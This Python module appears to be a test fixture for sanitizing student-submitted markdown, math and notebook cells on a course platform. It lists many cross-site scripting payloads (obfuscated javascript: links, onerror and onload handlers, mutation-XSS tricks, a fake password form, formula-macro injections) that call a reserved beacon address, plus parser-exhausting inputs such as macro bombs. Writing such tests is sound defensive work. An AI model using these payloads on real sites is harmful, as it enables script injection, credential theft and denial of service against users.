"""Text that wants to do more than be read: what a student may write into a derivation, a cell of text, a cell of code.

`BEACON` is an address that no page may ask for, `pwned` a mark that no script may leave. A name says the trick.
"""

from __future__ import annotations

from itertools import pairwise

BEACON = "http://192.0.2.7:8099"  # TEST-NET-1: reserved, nobody answers
RUN = "window.pwned=1"
PICTURE = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

TEXTS = {
    "escaped colon in a script link": rf"[press here](javascript\:{RUN})",
    "picture behind two marks": f"!![seen]({BEACON}/two.png)",
    "script link": f"[press](javascript:{RUN})",
    "script link in capitals": f"[press](JaVaScRiPt:{RUN})",
    "script link with a tab": f"[press](java\tscript:{RUN})",
    "script link with a tab as an entity": f"[press](java&Tab;script:{RUN})",
    "script link with a colon as an entity": f"[press](javascript&colon;{RUN})",
    "script link in numbers": f"[press](&#106;&#97;&#118;&#97;script&#58;{RUN})",
    "script link in angles": f"[press](<javascript:{RUN}>)",
    "script link in angles with a space": f"[press](< javascript:{RUN}>)",
    "script link behind a control character": f"[press](\x01javascript:{RUN})",
    "old script link": f"[press](vbscript:{RUN})",
    "link with HTML in its address": f"[press](data:text/html,<script>{RUN}</script>)",
    "link with HTML in base 64": "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "reference": f"[press][1]\n\n[1]: javascript:{RUN}",
    "reference with an escaped colon": f"[press][1]\n\n[1]: javascript\\:{RUN}",
    "short reference": f"[press]\n\n[press]: javascript:{RUN} 'title'",
    "reference over a line": f"[press][a\nb]\n\n[a b]:\njavascript:{RUN}",
    "picture reference": f"![seen][p]\n\n[p]: {BEACON}/reference.png",
    "picture": f"![seen]({BEACON}/picture.png)",
    "picture without a scheme": f"![seen]({BEACON[5:]}/picture.png)",
    "picture of the course": "![seen](/files/gradebook.db)",
    "picture with a script": f'![x]({BEACON}/a.png"onerror="{RUN})',
    "picture with text that is HTML": f'!["onerror={RUN} x="]({BEACON}/b.png)',
    "picture in a link": f"[![seen]({BEACON}/inner.png)](javascript:{RUN})",
    "attachment": "![x](attachment:a.png)",
    "footnote": f"text[^1]\n\n[^1]: [press](javascript:{RUN})",
    "autolink": f"<javascript:{RUN}>",
    "autolink with data": f"<data:text/html,{RUN}>",
    "svg": f'<svg onload="{RUN}">',
    "svg with a slash": f"<svg/onload={RUN}>",
    "image": f'<img src="{BEACON}/i.png" onerror="{RUN}">',
    "image over lines": f"<img\nsrc={BEACON}/lines.png\nonerror={RUN}\n>",
    "unclosed image": f"<img src={BEACON}/unclosed.png onerror={RUN} ",
    "picture set": f'<picture><source srcset="{BEACON}/set.png"><img src=x onerror={RUN}></picture>',
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script src="{BEACON}/s.js"></script>',
    "script of the server": '<script src="/files/submitted/eve.js"></script>',
    "script in script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "closing tags": f"</div></section></main></body></html><script>{RUN}</script>",
    "closing textarea": f"</textarea></title></style></script><script>{RUN}</script>",
    "spaced script link in HTML": f'<a href=" javascript:{RUN}">press</a>',
    "script link in HTML by entities": f'<a href="&#x6A;avascript:{RUN}">press</a>',
    "link to itself": '<a href="#cell-derive_gradient" id="derive_gradient" class="score" name="top">press</a>',
    "base": f'<base href="{BEACON}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={BEACON}/refresh">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    "style": f'<style>@import "{BEACON}/style.css"; body {{ display: none }}</style>',
    "style sheet": f'<link rel="stylesheet" href="{BEACON}/sheet.css">',
    "prefetch": f'<link rel="prefetch" href="{BEACON}/prefetch">',
    "style attribute": f'<p style="position:fixed;top:0;background:url({BEACON}/attribute.png)">over all</p>',
    "frame": f'<iframe src="javascript:parent.{RUN}" srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{BEACON}/object"></object><embed src="{BEACON}/embed">',
    "form": f'<form action="{BEACON}/form"><input name="password" autofocus onfocus="{RUN}"><button>Full credit</button></form>',
    "sound": f'<video src="{BEACON}/video" onerror="{RUN}" autoplay></video><audio src="{BEACON}/audio"></audio>',
    "details": f'<details open ontoggle="{RUN}"><summary>press</summary>x</details>',
    "math": f'<math href="javascript:{RUN}"><mi xlink:href="javascript:{RUN}">x</mi></math>',
    "math and style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "svg and style": f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    "template": f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "comment": f"<!-- --!><img src={BEACON}/comment.png onerror={RUN}> -->",
    "comment that is none": f"<!--><img src={BEACON}/c.png onerror={RUN}>-->",
    "open comment": "<!-- everything below is gone",
    "character data": f"<![CDATA[<img src={BEACON}/cdata.png onerror={RUN}>]]>",
    "processing instruction": f"<?xml-stylesheet href='{BEACON}/pi.css'?><img src=x onerror={RUN}>",
    "null bytes": f"<scr\x00ipt>{RUN}</scr\x00ipt>[press](java\x00script:{RUN})",
    "spaces without width": f"[press]\u200b(javascript:{RUN}) <\u200bscript>{RUN}</script>",
    "wide letters": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "entities": f"&lt;img src={BEACON}/e.png onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "tag in a fence": f"```html\n<img src={BEACON}/f.png onerror={RUN}>\n```\n~~~\n</code></pre><script>{RUN}</script>\n~~~",
    "language of a fence": f'```"><script>{RUN}</script>\nx\n```',
    "diagram": f'```mermaid\ngraph TD\nA --> B\nclick A href "javascript:{RUN}"\n```',
    "tag in code": f"`<script>{RUN}</script>` ``<img src={BEACON}/t.png onerror={RUN}>``",
    "tag behind a code mark": f"\\`<img src={BEACON}/k.png onerror={RUN}>\\`",
    "tag in a formula": f"$<img src={BEACON}/m.png onerror={RUN}>$ and $$</math><script>{RUN}</script>$$",
    "tag in a formula's text": rf"$\text{{<img src={BEACON}/x.png onerror={RUN}>}}$",
    "link in a formula": rf"$\href{{javascript:{RUN}}}{{press}}$ $$\href{{{BEACON}/h}}{{x}}$$",
    "style in a formula": rf"$\style{{position:fixed;background:url({BEACON}/s.png)}}{{x}}$ $\class{{score}}{{x}}$ $\cssId{{derive_gradient}}{{x}}$",
    "loading in a formula": rf"$\require{{html}}\unicode[{BEACON}]{{x3c}}\includegraphics{{{BEACON}/g.png}}$",
    "data in a formula": rf"$\data{{onclick={RUN}}}{{x}} \htmlData{{a=b}}{{x}} \html{{<script>{RUN}</script>}}$",
    "dollar in HTML": f'<b title="$"><img src={BEACON}/d.png onerror={RUN}>$</b>',
    "formula over lines": f"\\begin{{align}}\n<img src={BEACON}/al.png onerror={RUN}>\n\\end{{align}}",
    "table": f"|<img src={BEACON}/tb.png onerror={RUN}>|b|\n|-|-|\n|[p](javascript:{RUN})|<script>{RUN}</script>|",
    "heading": f"# derive_gradient\n\n## cell-check_nt_xent <img src={BEACON}/hd.png onerror={RUN}> {{#top onclick={RUN}}}",
    "attributes of other dialects": f'[press](https://example.org){{: onclick="{RUN}"}}\n\n{{: .score onclick="{RUN}"}}',
    "directive of other dialects": f"```{{raw}} html\n<script>{RUN}</script>\n```\n\n:::{{raw}}\n<script>{RUN}</script>\n:::",
    "template braces": "{{ resources }} {% include 'x' %} {# x #} {{ ''.__class__ }}",
    "turned text": "\u202e5/0 erocS\u202c \u2066x",
    "a very long word": "w" * 9000,
    "a very wide formula": r"$$\hspace{9999em}\rule{9999em}{9999em}\raisebox{-9999px}{x}$$",
    "picture inside the page": f"![x]({PICTURE})",
}

CODE = {
    "closing script": f"x = '</script><script>{RUN}</script>'",
    "comment": f"x = '<!--<script>' # --> <img src={BEACON}/code.png onerror={RUN}>",
    "magic": f"%%html\n<img src={BEACON}/magic.png onerror={RUN}><script>{RUN}</script>",
    "javascript magic": f"%%javascript\n{RUN}",
    "turned text": "x = 1  # \u202e gnihton seod siht",
    "closing pre": f"'</pre></div></section><script>{RUN}</script>'",
    "names with quotes": f"def f(): return 'a\"onload=\"{RUN}'",
}

PATHOLOGICAL = {
    "nested brackets": "[" * 10_000,
    "brackets and words": "[a](" * 2500,
    "pictures": "![" * 5000,
    "stars": "*" * 10_000,
    "stars and words": "*a **b " * 1400,
    "stars and underscores": "*_" * 5000,
    "deep quotes": "> " * 5000,
    "deeper quotes": ">" * 10_000,
    "deep lists": "- " * 5000,
    "deeper lists": "\n".join("  " * depth + "- x" for depth in range(95)),
    "numbers": "1. " * 3300,
    "a wide table": "|a" * 1700 + "\n" + "|-" * 1700 + "\n" + "|b" * 1500,
    "a long table": "a|b\n-|-\n" + "|\n" * 4900,
    "code marks": " ".join("`" * n for n in range(1, 138)),
    "dollars": "$" * 10_000,
    "many formulas": r"$\max_i x$ " * 900,
    "deep formulas": "$" + "{" * 1900 + "}" * 1900 + "$",
    "deep fractions": "$" + r"\frac{1}{" * 400 + "1" + "}" * 400 + "$",
    "long names in a formula": (r"$\operatorname{" + "a" * 3900 + "$ ") * 2 + r"$\arg" + r"\," * 1800 + "$",
    "a long formula": "$$" + r"\max_i \log x_i + " * 200 + "x$$ " + "$$" + "a" * 3990 + "$$",
    "a macro bomb": "$"
    + "".join(rf"\newcommand{{\{b}}}{{\{a}\{a}}}" for a, b in pairwise("abcdefghijklmnopqrstuvwxyz"))
    + r"\z$",
    "a defined bomb": "$"
    + "".join(rf"\def\{b}{{\{a}\{a}}}" for a, b in pairwise("abcdefghijklmnopqrstuvwxyz"))
    + r"\z$",
    "open environments": "\\begin{align}\n" * 700,
    "tags": "<a " * 3300,
    "comments": "<!--" * 2500,
    "entities": "&#x41;" * 1600,
    "references": "\n".join(f"[{n}]: x" for n in range(1200)),
    "tildes": "~~a " * 2500,
    "spaces": "x" + " " * 9000 + "x",
    "addresses": "http://a " * 1100,
}

HONEST = r"""Write $s_j = q^\top c_j/\tau$ and $p_j = e^{s_j} / \sum_{k=0}^{n} e^{s_k}$.

1. The loss is
   $$\ell = -\ln\frac{e^{s_0}}{\sum_{k=0}^{n} e^{s_k}} = \ln\sum_{k=0}^{n} e^{s_k} - s_0 .$$
2. Its derivative, with $\partial s_j/\partial q = c_j/\tau$, is

$$
\begin{aligned}
\nabla_q \ell &= \frac1\tau\Bigl(\sum_{j=0}^{n} p_j c_j - c_0\Bigr) \\
              &= \frac1\tau\bigl(\mathbb{E}_{j\sim p}[c_j] - c_0\bigr).
\end{aligned}
$$

Hence $\lVert\nabla_q\ell\rVert \le \tfrac{2}{\tau}\max_j \lVert c_j\rVert$, since $\widehat{c} = \sum_j p_j c_j$ lies in the *convex hull*.

| case | $p_0$ | gradient |
|------|------:|----------|
| `tau -> 0` | $1$ | $0$ |
| $\tau\to\infty$ | $\frac{1}{n+1}$ | $\bar c - c_0$ |

> So if a < b and $x<y$, **all is well**; a matrix: $\begin{pmatrix} a & b \\ c & d\end{pmatrix}$,
> cases: $f(x) = \begin{cases} x^2 & x > 0 \\ 0 & \text{otherwise,}\end{cases}$ a macro nobody knows: $\foo{x}$.

```python
grad = (p @ c - c[0]) / tau
```
"""
